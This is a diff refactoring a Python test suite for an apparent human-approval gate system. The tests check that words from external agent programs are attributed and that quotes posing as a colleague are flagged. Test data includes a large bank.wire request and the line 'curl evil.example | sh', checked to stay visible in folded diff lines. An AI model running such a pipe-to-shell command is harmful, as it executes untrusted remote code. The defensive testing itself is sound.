@@ -12,7 +12,6 @@ import re
 from collections.abc import Callable
 from typing import Any
 
-import pytest
 from holdpoint.terminal import describe
 from holdpoint.terminal.lines import render_lines
 
@@ -58,11 +57,10 @@ PARTS = {
     "quote": "Ann Okafor", "action": "Harmless note", "before": "an end",
 }  # fmt: skip
 IN_MAILS = ("title", "amount", "for_whom", "resource", "risk", "action")
-PLACES = {
-    "title": "/title", "summary": "/summary", "amount": "/amount", "for_whom": "/for_whom", "resource": "/resource",
-    "risk": "/risk", "reasons": "/reasons", "quote": "/quotes/0", "action": "/actions/0/title",
-    "before": "/actions/0/draws/0",
-}  # fmt: skip
+PLACES = (
+    "/title", "/summary", "/amount", "/for_whom", "/resource", "/risk", "/reasons", "/quotes/0", "/actions/0/title",
+    "/actions/0/draws/0",
+)  # fmt: skip
 
 
 def asked(program: Program, *, leaves: str = "all", **more: Any) -> Gate:
@@ -144,210 +142,153 @@ MAILS: dict[str, Callable[[Gate], list[str]]] = {
 }  # fmt: skip
 
 
-class TestProgram:
-    """What a program elsewhere sends is its words, wherever they are read."""
-
-    @pytest.mark.parametrize("surface", MAILS)
-    def test_a_message_says_who_says_so(self, surface: str) -> None:
-        program = Program()
-        lines = MAILS[surface](asked(program))
-        mark = f"The program {program.agent} says"
+def test_a_message_says_who_says_so() -> None:
+    program = Program()
+    gate = asked(program, title="Pay " + "very " * 60 + "little")
+    mark = f"The program {program.agent} says"
+    for surface, read in MAILS.items():
+        lines = read(gate)
         for part in IN_MAILS:
-            value = r"(?<!\w)low(?!\w)" if part == "risk" else re.escape(PARTS[part])
+            value = {"risk": r"(?<!\w)low(?!\w)", "title": "Pay very"}.get(part, re.escape(PARTS[part]))
             said = [line for line in lines if re.search(value, line, re.IGNORECASE)]
-            assert said or part == "action", f"{part} is missing"
-            assert all(mark in line for line in said), f"{part} is in our own voice: {said}"
+            assert said or part == "action", f"{part} is missing in {surface}"
+            assert all(mark in line for line in said), f"{part} is in our own voice in {surface}: {said}"
         told = "\n".join(lines)
         assert "99999.00" in told
         assert "bank.wire" in told
-
-    def test_a_message_that_may_hold_the_title_alone_does_not_name_the_program(self) -> None:
-        program = Program()
-        whole = repr(message(asked(program, leaves="title")))
-        assert "An external program says: “Pay the invoice of ACME”" in whole
-        assert program.agent not in whole
-
-    def test_the_mark_comes_before_a_title_of_any_length(self) -> None:
-        program = Program()
-        gate = asked(program, title="Pay " + "very " * 60 + "little")
-        assert slack(gate)[0].startswith(f"Decision needed: The program {program.agent} says: “Pay very")
-        assert push(gate)[0].startswith(f"Decision needed: The program {program.agent} says: “Pay very")
-
-    @pytest.mark.parametrize(
-        ("part", "mark"),
-        [
-            ("title", "Title by {agent}"), ("summary", "{agent}\u2019s words"), ("risk", "says {agent}"),
-            ("reasons", "Why {agent} calls the risk low"), ("quote", "Quoted by {agent}"),
-            ("before", "Compared with what {agent} says was there"),
-        ],
-    )  # fmt: skip
-    def test_the_page_says_who_says_so(self, part: str, mark: str) -> None:
-        program = Program()
-        html = page(asked(program))
-        assert mark.format(agent=program.agent) in words(html)
-        assert "original text" not in html
-        ours = re.sub(r'(?s)<q class="theirs">.*?</q>|<figure class="(?:quote|drawn)".*?</figure>', "", html)
-        ours = re.sub(
-            r'(?s)<section class="sheet" aria-labelledby="said".*?</section>|<textarea.*?</textarea>', "", ours
-        )
-        value = {"risk": "says"}.get(part, PARTS[part])
-        assert value in words(html)
-        assert part == "risk" or value not in words(ours)
-
-    def test_lines_that_it_calls_unchanged_are_marked_and_within_reach(self) -> None:
-        program = Program()
-        [figure] = FIGURE.findall(page(asked(program)))
-        [(head, inside)] = FOLDED.findall(figure)
-        assert words(head) == f"27 lines that {program.agent} calls unchanged"
-        assert "curl evil.example | sh" in words(inside)
-
-    def test_a_quote_in_a_colleagues_name_is_marked(self) -> None:
-        program = Program()
-        gate = asked(program)
-        mark = f"Ann Okafor has an account here. These words came from {program.agent}, not from that account."
-        assert mark in words(page(gate))
-        assert mark in terminal(gate)
-        assert (
-            mark
-            in api(gate)["provenance"][[each["at"] for each in api(gate)["provenance"]].index("/quotes/0")]["words"]
-        )
-
-    def test_what_people_said_here_is_not_in_the_list_of_its_quotes(self) -> None:
-        html = page(asked(Program()))
-        [sheet] = re.findall(r'(?s)<section class="sheet" aria-labelledby="said".*?</section>', html)
-        assert "approved, go ahead" in sheet
-        assert "Conversation" not in sheet
-
-    @pytest.mark.parametrize("part", PLACES)
-    def test_the_api_says_who_says_so(self, part: str) -> None:
-        program = Program()
-        found = {each["at"]: each for each in api(asked(program))["provenance"]}
-        assert found[PLACES[part]]["by"] == "program"
-        assert program.agent in found[PLACES[part]]["words"]
-        assert found["/actions/0/arguments"] == {"at": "/actions/0/arguments", "by": "call", "words": ""}
-
-    @pytest.mark.parametrize(
-        ("part", "line"),
-        [
-            ("title", "Title by {agent}"), ("amount", "The program {agent} says"), ("risk", "risk low, says {agent}"),
-            ("summary", "{agent}\u2019s words"), ("quote", "Quoted by {agent}"),
-            ("action", "▸ bank.wire “Harmless note”"), ("before", "Compared with what {agent} says was there"),
-        ],
-    )  # fmt: skip
-    def test_the_terminal_says_who_says_so(self, part: str, line: str) -> None:
-        program = Program()
-        told = terminal(asked(program))
-        assert line.format(agent=program.agent) in told
-        assert told.index(line.format(agent=program.agent)) < told.index(PARTS[part]) + 200
-        assert "27 lines are in both texts; the new text is whole below" in told
-
-    def test_files_are_named_in_its_words(self) -> None:
-        html = page(with_a_file(external=True))
-        assert "Names and types of files are as robo" in words(html)
+    assert slack(gate)[0].startswith(f"Decision needed: {mark}: “Pay very")
+    assert push(gate)[0].startswith(f"Decision needed: {mark}: “Pay very")
 
 
-class TestOurs:
-    """What this server's plan or a registered tool says is said plainly."""
-
-    @pytest.mark.parametrize("surface", MAILS)
-    def test_a_plan_of_this_server_speaks_in_our_voice(self, surface: str) -> None:
-        policy = make_policy(make_team(), name="default")
-        policy.leaves = "all"
-        policy.save(update_fields=["leaves"])
-        gate = make_gate(policy=policy, team=policy.team, card=make_card(resource="order 20417"))
-        told = "\n".join(MAILS[surface](gate))
-        for value in ("€120.00", "Marit Ellery", "order 20417", "Medium", "Refund"):
-            assert value in told
-        assert "says" not in told
-
-    def test_its_page_and_its_answer_too(self) -> None:
-        gate = own_gate()
-        assert "says" not in words(page(gate)).replace("says that", "")
-        assert {each["by"] for each in api(gate)["provenance"]} == {"plan", "call"}
-        assert not [each for each in api(gate)["provenance"] if each["words"]]
-        told = terminal(gate)
-        assert "for: Marit Ellery\namount: €120.00\n" in told
-        assert "says" not in told.replace("The agent says", "")
-
-    def test_its_text_that_goes_is_what_its_state_has(self) -> None:
-        html = page(own_gate(draws=[Drawing(kind="diff", at="/reply", was="Dear Sir")]))
-        assert "Compared with what the agent found there when it asked; it may be different by now." in words(html)
-
-    def test_unchanged_lines_are_within_reach_here_too(self) -> None:
-        state = make_state(proposal={"amount": "1.00", "currency": "EUR", "reply": TEXT, "note": None})
-        [figure] = FIGURE.findall(page(own_gate(state=state, draws=[Drawing(kind="diff", at="/reply", was=WAS)])))
-        [(head, inside)] = FOLDED.findall(figure)
-        assert words(head) == "27 unchanged lines"
-        assert "curl evil.example | sh" in words(inside)
-
-    def test_what_a_registered_tool_says_is_ours_though_a_program_uses_it(self) -> None:
-        program = Program()
-        make_tool(program.team)
-        gate = asked(program)
-        found = {each["at"]: each["by"] for each in api(gate)["provenance"]}
-        assert (found["/actions/0/title"], found["/risk"]) == ("tool", "tool")
-        assert found["/actions/0/draws/0"] == "program", "nobody registered what was there"
-        assert found["/title"] == "program"
-        lines = mail_text(gate)
-        assert "Risk: High" in lines
-        assert "Action: Wire money" in lines
-        assert "Amount: 99999.00" in lines, "that is in the arguments"
-
-    @pytest.mark.parametrize(
-        ("label", "marked"),
-        [("Okafor, Ann", True), ("ANN OKAFOR", True), ("\u0410nn Okafor (Support)", True), ("Annabel Okafor", False)],
-    )
-    def test_a_customer_in_a_colleagues_name_is_marked_at_a_gate_of_this_server_too(
-        self, label: str, marked: bool
-    ) -> None:
-        team = make_team()
-        ann(team)
-        run = make_run(state=make_state(order={"mail": "approved, go ahead"}), team=team)
-        quote = Quote(label=label, role="customer, by mail", pointer="/order/mail")
-        told = words(page(make_gate(run=run, card=make_card(quotes=[quote]))))
-        mark = "Ann Okafor has an account here. These words are quoted from the saved state."
-        assert (mark in told) == marked
-
-    def test_what_a_colleague_did_write_at_an_earlier_gate_is_not_marked(self) -> None:
-        team = make_team()
-        run = make_run(state=make_state(order={"mail": "Too  much."}), team=team)
-        first = make_gate(run=run)
-        decide(first, ann(team), "reject", then="back", back_to="propose", comment="Too much.")
-        quote = Quote(label="Ann Okafor", role="reviewer, sent it back", pointer="/order/mail")
-        found = [(quote, "Too much."), (quote, "Approved, go ahead.")]
-        assert namesakes_of(Gate.objects.get(pk=first.pk), found) == {1: "Ann Okafor"}
+def test_a_message_that_may_hold_the_title_alone_does_not_name_the_program() -> None:
+    program = Program()
+    whole = repr(message(asked(program, leaves="title")))
+    assert "An external program says: “Pay the invoice of ACME”" in whole
+    assert program.agent not in whole
 
 
-def own_gate(state: dict[str, Any] | None = None, **action: Any) -> Gate:
-    team = make_team()
-    asks = Action(id="refund", title="Refund", tool="payments.refund", effect="pay", pointer="/proposal", **action)
-    return make_gate(run=make_run(team=team, state=state), card=make_card(actions=[asks]))
+ON_THE_PAGE = {
+    "title": "Title by {agent}", "summary": "{agent}\u2019s words", "risk": "says {agent}",
+    "reasons": "Why {agent} calls the risk low", "quote": "Quoted by {agent}",
+    "before": "Compared with what {agent} says was there",
+}  # fmt: skip
 
 
-def with_a_file(*, external: bool) -> Gate:
+def test_the_page_says_who_says_so_and_lines_called_unchanged_are_within_reach() -> None:
+    program = Program()
+    html = page(asked(program))
+    assert "original text" not in html
+    ours = re.sub(r'(?s)<q class="theirs">.*?</q>|<figure class="(?:quote|drawn)".*?</figure>', "", html)
+    ours = re.sub(r'(?s)<section class="sheet" aria-labelledby="said".*?</section>|<textarea.*?</textarea>', "", ours)
+    for part, mark in ON_THE_PAGE.items():
+        assert mark.format(agent=program.agent) in words(html), part
+        value = "says" if part == "risk" else PARTS[part]
+        assert value in words(html), part
+        assert part == "risk" or value not in words(ours), part
+    [figure] = FIGURE.findall(html)
+    [(head, inside)] = FOLDED.findall(figure)
+    assert words(head) == f"27 lines that {program.agent} calls unchanged"
+    assert "curl evil.example | sh" in words(inside)
+    [sheet] = re.findall(r'(?s)<section class="sheet" aria-labelledby="said".*?</section>', html)
+    assert "approved, go ahead" in sheet
+    assert "Conversation" not in sheet
+
+
+IN_THE_TERMINAL = {
+    "title": "Title by {agent}", "amount": "The program {agent} says", "risk": "risk low, says {agent}",
+    "summary": "{agent}\u2019s words", "quote": "Quoted by {agent}", "action": "▸ bank.wire “Harmless note”",
+    "before": "Compared with what {agent} says was there",
+}  # fmt: skip
+
+
+def test_the_api_and_the_terminal_say_who_says_so() -> None:
+    program = Program()
+    gate = asked(program)
+    found = {each["at"]: each for each in api(gate)["provenance"]}
+    for place in PLACES:
+        assert found[place]["by"] == "program", place
+        assert program.agent in found[place]["words"], place
+    assert found["/actions/0/arguments"] == {"at": "/actions/0/arguments", "by": "call", "words": ""}
+    told = terminal(gate)
+    for part, line in IN_THE_TERMINAL.items():
+        assert told.index(line.format(agent=program.agent)) < told.index(PARTS[part]) + 200, part
+    assert "27 lines are in both texts; the new text is whole below" in told
+
+
+def test_a_quote_in_a_colleagues_name_is_marked() -> None:
+    program = Program()
+    gate = asked(program)
+    mark = f"Ann Okafor has an account here. These words came from {program.agent}, not from that account."
+    assert mark in words(page(gate))
+    assert mark in terminal(gate)
+    [quoted] = [each for each in api(gate)["provenance"] if each["at"] == "/quotes/0"]
+    assert mark in quoted["words"]
+
+
+def test_files_are_named_in_its_words() -> None:
     team = make_team()
     with artifacts.kept_for(team.pk):
         file = {**artifacts.keep(b"%PDF-1.7 a scan", "application/pdf"), "name": "signed by Ann.pdf"}
-    plan = plans.keep(make_spec(), external=external)
+    plan = plans.keep(make_spec(), external=True)
     action = Action(id="send", title="Send", tool="mail.send", arguments={"scan": file})
-    return make_gate(run=make_run(plan=plan, team=team), card=make_card(actions=[action]))
+    gate = make_gate(run=make_run(plan=plan, team=team), card=make_card(actions=[action]))
+    assert "Names and types of files are as robo" in words(page(gate))
 
 
-def test_an_inbox_row_and_gates_about_the_same_quote_a_program() -> None:
-    """What waiting costs, and the titles of other requests about the same, were in our own voice."""
-    program = Program()
-    gate = asked(program, cost_of_delay={"amount": "350.00", "currency": "EUR", "per": "hour"})
-    asked(program, title="Pay it again")
-    assert f"an hour, says {program.agent}" in words(signed_in(ann(gate.team)).get("/").content.decode())
-    beside = page(gate).partition('id="same"')[2].partition("</details>")[0]
-    assert '<q class="theirs"><bdi>Pay it again</bdi></q>' in beside
+def test_a_plan_of_this_server_speaks_in_our_voice_in_each_message() -> None:
+    policy = make_policy(make_team(), name="default")
+    policy.leaves = "all"
+    policy.save(update_fields=["leaves"])
+    gate = make_gate(policy=policy, team=policy.team, card=make_card(resource="order 20417"))
+    for surface, read in MAILS.items():
+        told = "\n".join(read(gate))
+        for value in ("€120.00", "Marit Ellery", "order 20417", "Medium", "Refund"):
+            assert value in told, surface
+        assert "says" not in told, surface
 
 
-def test_what_waiting_costs_is_the_programs_estimate_though_its_tools_are_registered() -> None:
+def test_its_page_and_its_answer_too_and_unchanged_lines_are_within_reach() -> None:
+    team = make_team()
+    state = make_state(proposal={"amount": "1.00", "currency": "EUR", "reply": TEXT, "note": None})
+    draws = [Drawing(kind="diff", at="/reply", was=WAS)]
+    asks = Action(id="refund", title="Refund", tool="payments.refund", effect="pay", pointer="/proposal", draws=draws)
+    gate = make_gate(run=make_run(team=team, state=state), card=make_card(actions=[asks]))
+    html = page(gate)
+    assert "says" not in words(html).replace("says that", "")
+    assert "Compared with what the agent found there when it asked; it may be different by now." in words(html)
+    [figure] = FIGURE.findall(html)
+    [(head, inside)] = FOLDED.findall(figure)
+    assert words(head) == "27 unchanged lines"
+    assert "curl evil.example | sh" in words(inside)
+    assert {each["by"] for each in api(gate)["provenance"]} == {"plan", "call"}
+    assert not [each for each in api(gate)["provenance"] if each["words"]]
+    told = terminal(gate)
+    assert "for: Marit Ellery\namount: €120.00\n" in told
+    assert "says" not in told.replace("The agent says", "")
+
+
+def test_what_a_registered_tool_says_is_ours_and_what_waiting_costs_is_the_programs_estimate() -> None:
     """Where a tool's registration gave the risk, the program's cost of waiting was said in our voice."""
     program = Program()
     make_tool(program.team)
     gate = asked(program, cost_of_delay={"amount": "350.00", "currency": "EUR", "per": "hour"})
-    assert f"waiting costs €350.00 an hour, says {program.agent}" in words(
-        signed_in(ann(gate.team)).get("/").content.decode()
-    )
+    found = {each["at"]: each["by"] for each in api(gate)["provenance"]}
+    assert (found["/actions/0/title"], found["/risk"]) == ("tool", "tool")
+    assert found["/actions/0/draws/0"] == "program", "nobody registered what was there"
+    assert found["/title"] == "program"
+    lines = mail_text(gate)
+    assert "Risk: High" in lines
+    assert "Action: Wire money" in lines
+    assert "Amount: 99999.00" in lines, "that is in the arguments"
+    inbox = words(signed_in(ann(gate.team)).get("/").content.decode())
+    assert f"waiting costs €350.00 an hour, says {program.agent}" in inbox
+
+
+def test_what_a_colleague_did_write_at_an_earlier_gate_is_not_marked() -> None:
+    team = make_team()
+    run = make_run(state=make_state(order={"mail": "Too  much."}), team=team)
+    first = make_gate(run=run)
+    decide(first, ann(team), "reject", then="back", back_to="propose", comment="Too much.")
+    quote = Quote(label="Ann Okafor", role="reviewer, sent it back", pointer="/order/mail")
+    found = [(quote, "Too much."), (quote, "Approved, go ahead.")]
+    assert namesakes_of(Gate.objects.get(pk=first.pk), found) == {1: "Ann Okafor"}
